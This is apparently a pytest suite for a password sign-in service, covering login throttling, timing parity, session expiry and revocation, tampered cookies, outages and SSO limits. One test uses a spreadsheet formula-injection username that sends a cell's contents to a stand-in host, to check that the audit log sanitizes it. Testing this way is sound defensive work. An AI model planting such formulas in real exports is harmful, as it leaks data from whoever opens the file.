"""Password sign-in outside Streamlit: throttling per username and address, timing, stored sessions."""

from __future__ import annotations

import os
import statistics
import threading
import time
from datetime import timedelta
from pathlib import Path

import pytest

from services.audit import AuditLog
from services.auth.__main__ import main
from services.auth.directory import UsersDirectory
from services.auth.roles import Actor, Role
from services.auth.password import PasswordSignIn
from services.auth.sessions import SIGN_IN_UNAVAILABLE, SessionCheck, SignInSessions, ride_out
from services.auth.throttle import UNKNOWN_USER, LoginThrottle
from services.auth.users import add_user
from services.store import open_store, store_engine

COOKIE_KEY = "Vq3xZ8pL2mN7rT4wY9bC6dF1gH5jK0sA-_e"
PASSWORD = "a long secret phrase"


class Desk:
    """The sign-in parts of one console process on a shared store."""

    def __init__(self, url: str, users_file: Path, **throttle: int) -> None:
        store = open_store(url)
        self.audit = AuditLog(store)
        self.sessions = SignInSessions(store, COOKIE_KEY, idle_timeout=timedelta(minutes=30),
                                       lifetime=timedelta(hours=12))
        self.directory = UsersDirectory(users_file, on_change=self.sessions.invalidate_all)
        self.throttle = LoginThrottle(store, self.audit, **throttle)  # type: ignore[arg-type]
        self.sign_in = PasswordSignIn(self.directory, self.throttle, self.sessions)


@pytest.fixture
def users_file(tmp_path: Path) -> Path:
    path = tmp_path / "users.yaml"
    add_user(path, "fay", "finance", PASSWORD)
    add_user(path, "sam", "support", PASSWORD)
    return path


@pytest.fixture
def url(store_url: str) -> str:
    return store_url


def test_five_failures_lock_the_username_across_restarts(url: str, users_file: Path) -> None:
    first = Desk(url, users_file)
    refusals = [first.sign_in.attempt("fay", "wrong", "198.51.100.1").refusal for _ in range(5)]
    assert refusals[:4] == ["Wrong username or password."] * 4 and "locked for 15 minutes" in str(refusals[4])
    restarted = Desk(url, users_file)  # a new process on the same store
    late = restarted.sign_in.attempt("fay", PASSWORD, "198.51.100.2")
    assert late.token is None and "locked until" in str(late.refusal)
    assert restarted.sign_in.attempt("sam", PASSWORD, "198.51.100.1").token  # another user is not locked
    events = restarted.audit.events()
    assert list(events.action) == ["login locked"] and list(events.user) == ["fay"]


def test_a_success_clears_the_usernames_failures(url: str, users_file: Path) -> None:
    desk = Desk(url, users_file)
    for _ in range(4):
        desk.sign_in.attempt("fay", "wrong", None)
    assert desk.sign_in.attempt("fay", PASSWORD, None).token
    assert desk.sign_in.attempt("fay", "wrong", None).refusal == "Wrong username or password."


def test_an_address_guessing_at_many_usernames_is_locked(url: str, users_file: Path) -> None:
    desk = Desk(url, users_file, max_address_failures=6)
    for name in ("ann", "bob", "cid", "dee", "eve", "fay"):
        desk.sign_in.attempt(name, "wrong", "203.0.113.7")
    blocked = desk.sign_in.attempt("sam", PASSWORD, "203.0.113.7")  # right password, locked address
    assert blocked.token is None and "locked" in str(blocked.refusal)
    assert desk.sign_in.attempt("sam", PASSWORD, "203.0.113.8").token  # another address is fine


def test_an_unknown_username_is_recorded_only_as_a_marker(url: str, users_file: Path) -> None:
    desk = Desk(url, users_file)
    typed = '=HYPERLINK("http://evil.example/?d="&A2,"Open")'
    for _ in range(5):
        desk.sign_in.attempt(typed, "wrong", None)
    row = desk.audit.events().iloc[0]
    assert row.user == UNKNOWN_USER and typed not in row.parameters and "hyperlinkhttpevil" in row.parameters


def test_twenty_parallel_wrong_attempts_get_no_more_than_the_limit(url: str, users_file: Path) -> None:
    desks = [Desk(url, users_file) for _ in range(4)]  # four "processes" on one store
    checked: list[int] = []
    original = desks[0].directory.burn_password_check

    def attempt(index: int) -> None:
        result = desks[index % 4].sign_in.attempt("fay", "wrong", None)
        if result.refusal and "locked until" not in result.refusal:
            checked.append(index)  # this attempt got to check a password

    threads = [threading.Thread(target=attempt, args=(index,)) for index in range(20)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert original is not None and len(checked) == 5


def test_unknown_and_known_usernames_take_as_long_to_refuse(url: str, tmp_path: Path) -> None:
    path = tmp_path / "timing.yaml"
    add_user(path, "fay", "finance", PASSWORD)  # the real work factor (12)
    desk = Desk(url, path, max_failures=1000, max_address_failures=1000)

    def seconds(username: str) -> float:
        started = time.perf_counter()
        desk.sign_in.attempt(username, "wrong password", None)
        return time.perf_counter() - started

    known = statistics.median(seconds("fay") for _ in range(5))
    unknown = statistics.median(seconds(f"nobody{index}") for index in range(5))
    assert abs(unknown - known) / known <= 0.20, (known, unknown)


def test_logout_ends_every_session_of_that_user(url: str, users_file: Path) -> None:
    laptop, phone = Desk(url, users_file), Desk(url, users_file)  # two console processes
    first = laptop.sign_in.attempt("fay", PASSWORD, None).token
    second = phone.sign_in.attempt("fay", PASSWORD, None).token
    other = phone.sign_in.attempt("sam", PASSWORD, None).token
    assert laptop.sessions.check(second, laptop.directory.current()).actor is not None
    laptop.sessions.end_everywhere("fay")
    ended = phone.sessions.check(second, phone.directory.current())
    assert ended.actor is None and "signed out" in str(ended.ended_because)
    assert laptop.sessions.check(first, laptop.directory.current()).actor is None
    assert phone.sessions.check(other, phone.directory.current()).actor is not None  # sam is untouched
    assert laptop.sign_in.attempt("fay", PASSWORD, None).token  # and fay can sign in again


def test_a_changed_role_or_password_or_a_removed_user_ends_their_sessions(url: str, users_file: Path) -> None:
    desk = Desk(url, users_file)
    fay = desk.sign_in.attempt("fay", PASSWORD, None).token
    sam = desk.sign_in.attempt("sam", PASSWORD, None).token
    add_user(users_file, "fay", "admin", PASSWORD)  # a role change, no restart
    os.utime(users_file, ns=(time.time_ns(), time.time_ns() + 1_000_000))
    ended = desk.sessions.check(fay, desk.directory.current())
    assert ended.actor is None and "account changed" in str(ended.ended_because)
    assert desk.sessions.check(sam, desk.directory.current()).actor is not None
    users_file.write_text(users_file.read_text().split("  sam:")[0])  # sam removed
    os.utime(users_file, ns=(time.time_ns(), time.time_ns() + 2_000_000))
    assert desk.sessions.check(sam, desk.directory.current()).actor is None
    again = desk.sign_in.attempt("fay", PASSWORD, None).token
    assert desk.sessions.check(again, desk.directory.current()).actor.role.value == "admin"  # type: ignore[union-attr]


def test_idle_and_absolute_limits(url: str, users_file: Path) -> None:
    desk = Desk(url, users_file)
    token = desk.sign_in.attempt("fay", PASSWORD, None).token
    desk.sessions.idle_timeout = timedelta(0)
    time.sleep(0.01)
    idle = desk.sessions.check(token, desk.directory.current())
    assert idle.actor is None and "without activity" in str(idle.ended_because)
    desk.sessions.idle_timeout, desk.sessions.lifetime = timedelta(minutes=30), timedelta(0)
    assert "time limit" in str(desk.sessions.check(token, desk.directory.current()).ended_because)


@pytest.mark.parametrize("tamper", [lambda token: token[:-1] + ("0" if token[-1] != "0" else "1"),
                                    lambda token: token.split(".")[0], lambda token: "x." + token.split(".")[1],
                                    lambda token: ""])
def test_a_tampered_cookie_signs_nobody_in(url: str, users_file: Path, tamper) -> None:  # type: ignore[no-untyped-def]
    desk = Desk(url, users_file)
    token = desk.sign_in.attempt("fay", PASSWORD, None).token
    assert desk.sessions.check(tamper(token), desk.directory.current()).actor is None


def test_a_broken_users_file_keeps_the_last_good_users(url: str, users_file: Path) -> None:
    desk = Desk(url, users_file)
    users_file.write_text("users: [this is not a mapping")
    os.utime(users_file, ns=(time.time_ns(), time.time_ns() + 3_000_000))
    assert set(desk.directory.current()) == {"fay", "sam"}


def _store_that_is_down(url: str, tmp_path: Path) -> str:
    """The same kind of store, not answering: a PostgreSQL port nobody listens on, a SQLite file that can't
    be read (a file without the console's tables)."""
    if url.startswith("postgresql"):
        return "postgresql+psycopg://billing@127.0.0.1:9/billing?connect_timeout=2"
    return f"sqlite:///{tmp_path / 'gone' / 'audit.sqlite3'}"


def test_a_store_outage_keeps_a_recently_confirmed_tab_signed_in_for_a_while(url: str, users_file: Path,
                                                                            tmp_path: Path) -> None:
    desk = Desk(url, users_file)
    token = desk.sign_in.attempt("fay", PASSWORD, "10.0.0.1").token
    confirmed = desk.sessions.check(token, desk.directory.current())
    assert confirmed.actor is not None and confirmed.confirmed_at is not None
    down = SignInSessions(store_engine(_store_that_is_down(url, tmp_path)), COOKIE_KEY)
    unanswered = down.check(token, desk.directory.current())
    assert unanswered.store_unreachable and unanswered.actor is None and "database" in (unanswered.ended_because or "")
    assert ride_out(confirmed, unanswered).actor == confirmed.actor  # reads go on during the outage
    assert ride_out(None, unanswered).actor is None  # a tab the store never confirmed is not let in
    long_ago = SessionCheck(confirmed.actor, confirmed_at=confirmed.confirmed_at - timedelta(minutes=6))
    assert ride_out(long_ago, unanswered).actor is None  # the grace is minutes, not the whole outage
    assert down.check("forged.value", desk.directory.current()).actor is None  # the seal is checked first
    refused = PasswordSignIn(desk.directory, LoginThrottle(down.engine, AuditLog(down.engine)), down)
    assert refused.attempt("fay", PASSWORD, "10.0.0.1").refusal == SIGN_IN_UNAVAILABLE  # no session, no bypass


def test_a_polling_run_is_not_activity(url: str, users_file: Path) -> None:
    """A page that refreshes itself (the Bulk page's job list) checks the session without touching it, so an
    unattended tab still reaches the idle limit."""
    desk = Desk(url, users_file)
    token = desk.sign_in.attempt("fay", PASSWORD, None).token
    desk.sessions.idle_timeout = timedelta(seconds=0.6)
    for _ in range(6):  # 0.9 s of polling, every 0.15 s: longer than the idle limit
        desk.sessions.check(token, desk.directory.current(), touch=False)
        time.sleep(0.15)
    idle = desk.sessions.check(token, desk.directory.current(), touch=False)
    assert idle.actor is None and "without activity" in str(idle.ended_because)


def test_a_click_is_activity(url: str, users_file: Path) -> None:
    desk = Desk(url, users_file)
    token = desk.sign_in.attempt("fay", PASSWORD, None).token
    desk.sessions.idle_timeout = timedelta(seconds=0.6)
    for _ in range(6):
        assert desk.sessions.check(token, desk.directory.current()).actor is not None
        time.sleep(0.15)


def _sso_actor(role: str = "finance") -> Actor:
    return Actor("fay@example.com", Role(role), subject="https://login.example.com|00u1")


def test_an_sso_sign_in_ends_after_its_maximum_age(url: str, users_file: Path) -> None:
    desk = Desk(url, users_file)
    signed_in_at = time.time()
    first = desk.sessions.check_sso(_sso_actor(), signed_in_at, max_age=timedelta(hours=1))
    assert first.actor is not None
    aged = desk.sessions.check_sso(_sso_actor(), signed_in_at, max_age=timedelta(0))
    assert aged.actor is None and "Sign in again" in str(aged.ended_because)
    stale = desk.sessions.check_sso(_sso_actor(), time.time() - 7200, max_age=timedelta(hours=1))
    assert stale.actor is None  # a provider sign-in older than the maximum age is not taken at all


def test_an_sso_role_other_than_at_sign_in_ends_the_session(url: str, users_file: Path) -> None:
    desk = Desk(url, users_file)
    signed_in_at = time.time()
    assert desk.sessions.check_sso(_sso_actor("finance"), signed_in_at).actor is not None
    changed = desk.sessions.check_sso(_sso_actor("admin"), signed_in_at)
    assert changed.actor is None and "access changed" in str(changed.ended_because)


def test_an_admin_ends_a_persons_sso_sessions_at_once(url: str, users_file: Path) -> None:
    desk = Desk(url, users_file)
    signed_in_at = time.time() - 1
    assert desk.sessions.check_sso(_sso_actor(), signed_in_at).actor is not None
    assert main(["end-sessions", "Fay@Example.com", "--url", url]) == 0
    ended = desk.sessions.check_sso(_sso_actor(), signed_in_at)
    assert ended.actor is None and "signed out" in str(ended.ended_because)
    assert desk.sessions.check_sso(_sso_actor(), time.time() + 1).actor is not None  # signing in again works
